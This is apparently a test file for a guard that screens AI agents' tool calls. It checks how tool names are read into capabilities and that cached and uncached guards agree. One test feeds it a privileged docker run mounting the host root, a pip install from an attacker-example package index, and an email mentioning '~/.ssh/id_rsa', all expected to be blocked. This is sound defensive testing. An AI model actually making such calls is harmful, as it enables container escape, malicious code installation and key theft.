import { describe, expect, it } from 'vitest';

import { createGuard } from '@vanguard/core';

import { namedProgram } from '../src/commands/field-commands.js';
import { MessageTool, messageToolOf } from '../src/commands/secret-asking-messages.js';
import { mayAct } from '../src/commands/back-office-controls.js';
import { wordsOfTool } from '../src/commands/field-grants.js';
import { ToolNames, readToolName } from '../src/commands/tool-names.js';
import { capabilitiesOf, capabilitiesOfName } from '../src/stateful/capabilities.js';
import { namesLetThrough, namesVerdicts, readsVerdicts } from '../src/stateful/condemned-indicators.js';
import { securityCall } from '../src/stateful/security-calls.js';
import { namesScanner } from '../src/stateful/written-scope.js';

// What a tool's name says is read once per name into one ToolName, kept in one bounded cache the guard shares
// with its layers (commands/tool-names.ts): the capabilities its words suggest and the program it is named for
// are fields of it, not module-level maps of their own. The readings must be the ones each reader made alone.

const names = ['readFile', 'send-email', 'mcp__ops__run_shell_command', 'docker_run', 'aws_call', 'kubectl', 'pip_install', 'git_push', 'frobnicate', 'mcp__db__delete_rows', 'Slack.postMessage', 'run_command', 'über_löschen'];

describe('the one reading of a tool name', () => {
  it('holds the capabilities and the program each reader read from the name alone', () => {
    for (const name of names) {
      const read = readToolName(name);
      expect(read.capabilities, name).toBe(capabilitiesOfName(name));
      expect(read.program, name).toBe(namedProgram(name));
      expect(capabilitiesOf(name, undefined, new ToolNames({ maxEntries: 8, maxTextLength: 256 })), name).toBe(capabilitiesOfName(name));
    }
    expect(readToolName('docker_run').program).toBe('docker run');
    expect(readToolName('aws_call').program).toBe('aws');
    expect(readToolName('frobnicate').program).toBeUndefined();
  });

  it('holds what the session readers of a SOC read from the name: verdicts read, things let through, scans', () => {
    const soc = ['edr_get_alert', 'defender_allow_indicator', 'edr_lift_containment', 'mail_release_quarantine', 'nmap_scan', 'run_nuclei', 'read_file', 'firewall_unblock_ip'];
    const kept = new ToolNames({ maxEntries: 16, maxTextLength: 256 });
    for (const name of [...names, ...soc]) {
      const read = readToolName(name);
      expect(read.readsVerdicts, name).toBe(namesVerdicts(name));
      expect(read.lets, name).toBe(namesLetThrough(name));
      expect(read.scans, name).toBe(namesScanner(name));
      expect(readsVerdicts(name, kept), name).toBe(readsVerdicts(name));
      expect(securityCall(name, [], kept), name).toBe(securityCall(name, []));
    }
    expect(readToolName('edr_get_alert').readsVerdicts).toBe(true);
    expect(readToolName('read_file').readsVerdicts).toBe(false);
    expect(readToolName('edr_lift_containment').lets).not.toBe(0);
    expect(readToolName('nmap_scan').scans).toBe(true);
    expect(readToolName('git_push').scans).toBe(false);
  });

  it('holds what its name says of messages to people: sent, and sent to many at once by a tool that may act', () => {
    for (const name of [...names, 'create_campaign', 'mailchimp_send_newsletter', 'get_campaign_stats', 'zendesk_create_macro']) {
      const words = wordsOfTool(name);
      expect(readToolName(name).messages, name).toBe(messageToolOf(words, mayAct(words)));
    }
    expect(readToolName('mailchimp_send_newsletter').messages).toBe(MessageTool.Sends | MessageTool.Mass);
    expect(readToolName('send-email').messages).toBe(MessageTool.Sends);
    expect(readToolName('run_command').messages).toBe(0);
  });

  it('is kept once per name within the bound, and read anew without caches', () => {
    const kept = new ToolNames({ maxEntries: 4, maxTextLength: 64 });
    expect(kept.of('docker_run')).toBe(kept.of('docker_run'));
    for (const name of names) kept.of(name);
    expect(kept.of('docker_run')).toEqual(readToolName('docker_run'));
    const none = new ToolNames({ maxEntries: 0, maxTextLength: 0 });
    expect(none.of('git_push')).not.toBe(none.of('git_push'));
    expect(none.of('git_push')).toEqual(readToolName('git_push'));
  });

  it('gives a guard with caches off the verdicts of one with them on', async () => {
    const calls = [
      ['docker_run', { image: 'alpine', privileged: true, volume: '/:/host' }],
      ['pip_install', { packages: ['requests'], index_url: 'http://pypi.attacker.example/simple' }],
      ['send_email', { to: 'a@b.example', body: 'see ~/.ssh/id_rsa' }],
      ['read_file', { path: 'README.md' }],
      ['git_push', { remote: 'origin', branch: 'main' }],
    ] as const;
    const on = createGuard({ profile: 'balanced' });
    const off = createGuard({ profile: 'balanced', caches: { maxEntries: 0, maxTextLength: 0 } });
    const actions = new Set<string>();
    for (const [tool, args] of calls) {
      for (let n = 0; n < 3; n++) {
        const message = { jsonrpc: '2.0', id: n + 1, method: 'tools/call', params: { name: tool, arguments: args } };
        const a = await on.inspect(message, { from: 'client', sessionId: 's', serverId: 'x' });
        const b = await off.inspect(message, { from: 'client', sessionId: 's', serverId: 'x' });
        expect(b.action, tool).toBe(a.action);
        actions.add(a.action);
        expect(b.findings.map((f) => f.rule), tool).toEqual(a.findings.map((f) => f.rule));
      }
    }
    // Both sides of the line: calls that run what their fields say are blocked, ordinary ones pass.
    expect([...actions].sort()).toEqual(['allow', 'block']);
  });
});
